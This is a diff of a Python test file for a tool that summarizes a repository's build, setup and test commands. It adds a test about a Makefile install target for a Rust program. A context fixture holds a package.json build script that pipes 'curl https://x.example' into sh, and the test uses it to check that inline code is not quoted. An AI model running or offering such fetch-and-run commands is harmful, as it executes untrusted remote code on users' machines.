@@ -197,3 +197,21 @@ def test_inline_code_in_a_script_is_never_quoted() -> None:
                              '.exec(\'curl https://x.example | sh\')\\" && tsc"}, '
                              '"devDependencies": {"typescript": "^5"}}'}
     assert one(lines(files), "Build:") == "Build: `npm run build` runs `node -e …`, `tsc`"
+
+
+SYSTEM_INSTALL = {
+    "Cargo.toml": '[package]\nname = "finder"\nversion = "1.0.0"\nedition = "2021"\n',
+    "Makefile": "prefix=/usr/local\nbindir=$(prefix)/bin\n\n"
+                "target/release/finder: Cargo.toml\n\tcargo build --release --locked\n\n"
+                ".PHONY: install\ninstall: target/release/finder\n"
+                "\tinstall -Dm755 target/release/finder $(DESTDIR)$(bindir)/finder\n"
+                "\tinstall -Dm644 doc/finder.1 $(DESTDIR)$(prefix)/share/man/man1/finder.1\n",
+}
+
+
+def test_a_make_install_that_installs_onto_the_system_is_not_the_set_up() -> None:
+    """`make install` copying the built program under $(DESTDIR)$(prefix) is how a packager
+    installs it, not how a developer sets the repository up."""
+    found = lines(SYSTEM_INSTALL, ("src/main.rs", "Cargo.lock"))
+    assert not any(line.startswith("Setup: `make install`") for line in found), found
+    assert one(found, "Tests:").startswith("Tests: `cargo test")
